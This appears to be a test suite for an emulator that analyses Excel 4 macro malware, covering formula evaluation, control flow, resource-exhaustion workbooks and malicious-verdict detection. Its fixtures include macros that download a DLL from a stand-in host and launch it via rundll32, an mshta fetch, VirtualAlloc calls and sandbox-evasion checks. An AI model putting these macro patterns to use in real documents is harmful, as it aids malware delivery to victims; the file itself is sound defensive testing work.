// Macros of Excel 4: what their functions compute, how they jump and loop, what they reach out with, and workbooks that would
// hang or fill the emulator.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { type Emulation, emulate } from '../../src/emulate/emulate.ts'
import { analyzeTrace } from '../../src/trace/analyze.ts'
import type { Trace } from '../../src/trace/trace.ts'
import {
  COMMAND,
  call,
  cell,
  fixed,
  inSheet,
  joined,
  less,
  nameOf,
  number,
  text,
  writeXls,
  writeXlsm,
} from './write-xlm.ts'

/** The clock that the runs look at goes faster: their four seconds are one here. */
const CLOCK = 4

function run(bytes: Uint8Array, fileName = 'a.xlsm'): Promise<Emulation> {
  const startedMs = performance.now()
  const elapsedMs = (): number => (performance.now() - startedMs) * CLOCK
  return emulate(bytes, { fileName, passwords: [], now: new Date('2026-03-02T10:00:00Z'), budgetMs: 60_000, elapsedMs })
}

/** Formulas down column A of a macro sheet, and cells beside them. */
async function macro(
  formulas: readonly string[],
  cells: Readonly<Record<string, string | number>> = {},
): Promise<Trace> {
  const column = Object.fromEntries(formulas.map((one, at) => [`A${at + 1}`, one]))
  const made = await run(
    writeXlsm([{ name: 'Macro1', isMacro: true, visibility: 'veryHidden', cells: { ...column, ...cells } }], {
      '_xlnm.Auto_Open': 'Macro1!$A$1',
    }),
  )
  const [trace] = made.traces
  assert.ok(trace !== undefined, JSON.stringify(made.notRun))
  return trace
}

const commands = ({ processes }: Trace): readonly string[] =>
  processes.flatMap(({ startedBy, commandLine }) => (startedBy === 'sample' ? [] : [commandLine]))

/** A formula and what it gives as a text, by Microsoft's description of each function. */
const COMPUTED: Readonly<Record<string, string>> = {
  '"a"&"b"&1+2': 'ab3',
  'CHAR(72)&CHAR(105)': 'Hi',
  'MID("Fluid Flow",1,5)&"|"&MID("Fluid Flow",20,5)': 'Fluid|',
  'LEFT("Sale Price",4)&RIGHT("Sale Price",5)': 'SalePrice',
  'SUBSTITUTE("Quarter 1, 2011","1","2",3)': 'Quarter 1, 2012',
  'SUBSTITUTE("Sales Data","Sales","Cost")': 'Cost Data',
  'REPLACE("abcdefghijk",6,5,"*")': 'abcde*k',
  'FIND("M","Miriam McGovern",3)&SEARCH("e","Statements",6)': '87',
  'TRIM("  First Quarter  Earnings ")': 'First Quarter Earnings',
  'REPT("-",3)&LEN("Phoenix, AZ")&CODE("A")': '---1165',
  'UPPER("total")&LOWER("E. E.")&PROPER("this is")': 'TOTALe. e.This Is',
  'MOD(-3,2)&MOD(3,-2)&INT(-8.9)&ROUND(2.15,1)': '1-1-92.2',
  'TEXT(7,"000")&IF(1<2,"y","n")&NOT(FALSE)': '007yTRUE',
  '-2^2+10%*10&"|"&2^3': '5|8',
  'ISERROR(1/0)&ISNUMBER("1")&ISTEXT("1")': 'TRUEFALSETRUE',
  'CONCATENATE("a",1,TRUE)&AND(TRUE,1)&OR(FALSE,0)': 'a1TRUETRUEFALSE',
  'CHOOSE(2,"a","b","c")&INDEX({"x","y"},2)': 'by',
  'YEAR(DATE(2025,13,1))&MONTH(DATE(2025,13,1))': '20261',
  '"say ""x"""&(3>2)': 'say "x"TRUE',
  'SUM(B1:B3)&MAX(B1:B3)&COUNTA(B1:B4)': '633',
  'OFFSET(B1,1,0)&INDIRECT("B"&3)&R1C2': '231',
  'IFERROR(1/0,"none")&HEX2DEC("FF")': 'none255',
}

for (const [formula, wanted] of Object.entries(COMPUTED))
  test(`computes ${formula}`, async () => {
    const trace = await macro([`=EXEC("show "&${formula})`, '=HALT()'], { B1: 1, B2: 2, B3: 3 })
    assert.deepEqual(commands(trace), [`show ${wanted}`])
  })

/** Macros that end in `EXEC("show …")`. */
const FLOW: Readonly<Record<string, readonly [formulas: readonly string[], shown: readonly string[]]>> = {
  'down the column until it returns': [
    ['=EXEC("show 1")', 'a text', '=EXEC("show 2")', '=RETURN()', '=EXEC("show 3")'],
    ['show 1', 'show 2'],
  ],
  'a jump': [['=GOTO(A3)', '=EXEC("show no")', '=EXEC("show yes")', '=HALT()'], ['show yes']],
  'a jump that is chosen': [
    ['=IF(1=2,GOTO(A2),GOTO(A3))', '=EXEC("show no")', '=EXEC("show yes")', '=HALT()'],
    ['show yes'],
  ],
  'a macro that is called and returns': [
    [
      '=SET.NAME("x",A5())',
      '=RUN(A7)',
      '=EXEC("show "&x)',
      '=HALT()',
      '=EXEC("show in")',
      '=RETURN("back")',
      '=EXEC("show run")',
      '=RETURN()',
    ],
    ['show in', 'show run', 'show back'],
  ],
  'blocks of conditions': [
    [
      '=IF(FALSE)',
      '=IF(TRUE)',
      '=EXEC("show a")',
      '=END.IF()',
      '=ELSE.IF(1=1)',
      '=EXEC("show b")',
      '=ELSE()',
      '=EXEC("show c")',
      '=END.IF()',
      '=HALT()',
    ],
    ['show b'],
  ],
  'a loop that counts': [
    ['=FOR("i",1,3)', '=EXEC("show "&i)', '=NEXT()', '=HALT()'],
    ['show 1', 'show 2', 'show 3'],
  ],
  'a loop with a condition': [
    ['=SET.NAME("i",0)', '=WHILE(i<2)', '=SET.NAME("i",i+1)', '=EXEC("show "&i)', '=NEXT()', '=HALT()'],
    ['show 1', 'show 2'],
  ],
  'a loop over cells that puts a text together': [
    [
      '=SET.NAME("t","")',
      '=FOR.CELL("c",B1:B3,TRUE)',
      '=SET.NAME("t",t&CHAR(c-1))',
      '=NEXT()',
      '=EXEC("show "&t)',
      '=HALT()',
    ],
    ['show abc'],
  ],
  'a formula that another writes, in the other spelling': [
    ['=FORMULA("=EXEC(""show ""&R1C3)",A3)', '=FORMULA("made",C1)', '', '=HALT()'],
    ['show made'],
  ],
  'a range that is filled': [
    ['=FORMULA.FILL("=EXEC(""show x"")",A2:A3)', '', '', '=HALT()'],
    ['show x', 'show x'],
  ],
  'a value that is set': [['=SET.VALUE(C5,"kept")', '=EXEC("show "&C5)', '=HALT()'], ['show kept']],
  'a cell that keeps what it gave': [['=LEFT("abc",2)', '=EXEC("show "&A1)', '=HALT()'], ['show ab']],
  'a jump to what a text names': [
    ['=GOTO(INDIRECT("A"&3))', '=EXEC("show no")', '=EXEC("show yes")', '=HALT()'],
    ['show yes'],
  ],
  'questions that sandboxes are known by': [
    [
      '=IF(GET.WORKSPACE(19),,CLOSE(FALSE))',
      '=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)',
      '=IF(ISNUMBER(SEARCH("Windows",GET.WORKSPACE(1))),,CLOSE(TRUE))',
      '=EXEC("show on")',
      '=HALT()',
    ],
    ['show on'],
  ],
}

for (const [name, [formulas, shown]] of Object.entries(FLOW))
  test(`carries out ${name}`, async () => {
    assert.deepEqual(commands(await macro(formulas, { B1: 98, B2: 99, B3: 100 })), shown)
  })

test('what it reaches out with is told in the vocabulary of every run', async () => {
  const trace = await macro([
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://files.example/a.dll","C:\\Users\\Public\\a.dll",0,0)',
    '=REGISTER("Shell32","ShellExecuteA","JJCCCJJ","Starts",,1,9)',
    '=Starts(0,"open","C:\\Windows\\System32\\rundll32.exe","C:\\Users\\Public\\a.dll,Run",0,5)',
    '=FOPEN("C:\\Users\\Public\\note.txt",3)',
    '=FWRITELN(A4,"first")',
    '=FWRITE(A4,"second")',
    '=FCLOSE(A4)',
    '=IF(ISERROR(FILES("C:\\Users\\Public\\note.txt")),HALT(),)',
    '=REGISTER("Kernel32","VirtualAlloc","JJJJJ","Room",,1,9)',
    '=Room(0,4096,4096,64)',
    '=ALERT("The document is corrupt",2)',
    '=WAIT(NOW()+"00:00:20")',
    '=HALT()',
  ])
  assert.ok(trace.network.some((event) => event.kind === 'http' && event.url === 'http://files.example/a.dll'))
  assert.deepEqual(commands(trace), ['C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\a.dll,Run'])
  const note = trace.dropped.find(({ path }) => path.endsWith('note.txt'))
  assert.equal(Buffer.from(note?.bytes ?? []).toString(), 'first\r\nsecond')
  const kinds = trace.system.map((event) => (event.kind === 'injection' ? event.step : event.kind))
  for (const kind of ['allocate', 'dialog', 'sleep']) assert.ok(kinds.includes(kind as never), kind)
  assert.equal(analyzeTrace([trace], { path: 'a.xlsm' }).verdict?.label, 'malicious')
})

const MACRO = (command: readonly Buffer[]) => [
  { name: 'Sheet1', isMacro: false, cells: [[4, 1, 'show '] as const, [5, 1, 'binary'] as const, [6, 1, 42] as const] },
  {
    name: 'Macro1',
    isMacro: true,
    cells: [[0, 0, [text('no'), call(55, 1)]] as const, [9, 2, command] as const, [10, 2, [call(54, 0)]] as const],
  },
]

test('binary workbooks: what other sheets hold, names by number, built-in names', async () => {
  const bytes = writeXls(MACRO([inSheet(0, 4, 1), nameOf(2), joined, inSheet(0, 6, 1), joined, call(110, 1)]), [
    [1, inSheet(1, 9, 2)],
    ['part', inSheet(0, 5, 1)],
  ])
  const { traces } = await run(bytes, 'a.xls')
  assert.deepEqual(traces.flatMap(commands), ['show binary42'])
})

test('binary workbooks: a formula that is written by another, and a question before it', async () => {
  const bytes = writeXls(MACRO([text('=EXEC("show made")'), cell(10, 2), call(COMMAND | 96, 2)]), [
    ['Auto_Open_x', inSheet(1, 9, 2)],
  ])
  assert.deepEqual((await run(bytes, 'a.xls')).traces.flatMap(commands), ['show made'])
  const asks = writeXls(
    MACRO([number(13), fixed(186), number(770), less, call(54, 0), text('calc'), call(110, 1), call(1, 3)]),
    [[1, inSheet(1, 9, 2)]],
  )
  const [trace] = (await run(asks, 'a.xls')).traces
  assert.deepEqual(commands(trace as Trace), ['calc'])
  assert.ok(trace?.system.some((event) => event.kind === 'question' && event.what === 'GET.WORKSPACE(13)'))
})

test('a macro of one country is run there', async () => {
  const { traces } = await run(
    writeXlsm(
      [
        {
          name: 'm',
          isMacro: true,
          cells: { A1: '=IF(GET.WORKSPACE(37)=49,EXEC("mshta http://files.example/a.hta"),)', A2: '=HALT()' },
        },
      ],
      { auto_open: 'm!$A$1' },
    ),
  )
  assert.deepEqual(
    traces.map((trace) => commands(trace).length),
    [0, 1],
  )
  assert.match(traces[1]?.environment.otherAnswers?.[0]?.about ?? '', /language and region/)
})

test('no number of sheets hides the macros that stand behind them', async () => {
  const shown = Array.from({ length: 60 }, (_, at) => ({ name: `S${at}`, isMacro: false, cells: { A1: at } }))
  const made = await run(
    writeXlsm([...shown, { name: 'Macro1', isMacro: true, cells: { A1: '=EXEC("calc.exe")' } }], {
      '_xlnm.Auto_Open': 'Macro1!$A$1',
    }),
  )
  assert.deepEqual(made.traces.map(commands), [['calc.exe']])
  assert.ok(made.traces[0]?.notCovered.some((line) => /^\d+ formulas or parts of the macro sheets/.test(line)))
})

test('an honest macro sheet is not made suspicious', async () => {
  const trace = await macro([
    '=ECHO(FALSE)',
    '=FOR("row",1,3)',
    '=SELECT(OFFSET(B1,row-1,0))',
    '=FORMULA(row*2,OFFSET(C1,row-1,0))',
    '=NEXT()',
    '=ALERT("Totals are "&SUM(C1:C3),2)',
    '=RETURN()',
  ])
  assert.ok((analyzeTrace([trace], { path: 'a.xlsm' }).verdict?.score ?? 0) < 300)
  assert.ok(trace.system.some((event) => event.kind === 'dialog' && event.what === 'Totals are 12'))
})

test('what it cannot do is said', async () => {
  const trace = await macro(['=MOVE.TOOL(1)', '=EXEC("show on")', '=A1:::', '=HALT()'])
  assert.deepEqual(commands(trace), ['show on'])
  assert.ok(trace.missed?.some((one) => one.includes('MOVE.TOOL')))
  assert.ok(trace.notCovered.some((one) => one.includes('=A1:::')))
})

/** Each ends, by a limit of its own or by itself, and says how. */
const HOSTILE: Readonly<Record<string, readonly string[]>> = {
  'a jump to itself': ['=GOTO(A1)'],
  'macros that call themselves': ['=A1()'],
  'a loop without end': ['=WHILE(TRUE)', '=NEXT()'],
  'a text that doubles': ['=SET.NAME("t","abcdefgh")', '=WHILE(TRUE)', '=SET.NAME("t",t&t)', '=NEXT()'],
  'a formula that writes itself on': ['=FORMULA("=GOTO(A1)",OFFSET(A1,RAND()*0+1,0))', ''],
  'brackets without end': [`=EXEC(${'('.repeat(5_000)}1${')'.repeat(5_000)})`, '=HALT()'],
  'a long chain': [`=EXEC("a"${'&"a"'.repeat(4_000)})`, '=HALT()'],
  'names of names': ['=SET.NAME("a",b)', '=SET.NAME("b",a)', '=EXEC("show "&a)', '=HALT()'],
  'a range of everything': ['=FORMULA.FILL("=1",A2:XFD1048576)', '=SUM(A1:XFD1048576)', '=HALT()'],
}

for (const [name, formulas] of Object.entries(HOSTILE))
  test(`ends in a told result: ${name}`, async () => {
    const startedMs = performance.now()
    const trace = await macro(formulas)
    assert.ok(['finished', 'exited', 'step_limit', 'time_up', 'out_of_memory'].includes(trace.exit.how), trace.exit.how)
    assert.ok(performance.now() - startedMs < 30_000)
  })

/** Excel goes on after each of these. */
const GOES_ON: Readonly<Record<string, string>> = {
  'a chain as long as a formula may be': `=${Array.from({ length: 4_000 }, () => '1').join('+')}`,
  'a number without end': '=BITXOR("Infinity",1)',
  'nothing, without end': '=REPT("",1E+309)',
  'the same range many times': `=SUM(${Array.from({ length: 2_000 }, () => 'B1:B9999').join(',')})`,
}

for (const [name, formula] of Object.entries(GOES_ON))
  test(`goes on after ${name}`, async () => {
    const trace = await macro([formula, '=EXEC("show on")', '=HALT()'], { B9999: 1 })
    assert.deepEqual(commands(trace), ['show on'])
  })

test('a workbook that is cut anywhere is read as far as it goes', async () => {
  const whole = writeXls(MACRO([text('calc'), call(110, 1)]), [[1, inSheet(1, 9, 2)]])
  for (let part = 1; part < 12; part += 1) await run(whole.subarray(0, Math.floor((whole.length * part) / 12)), 'a.xls')
})
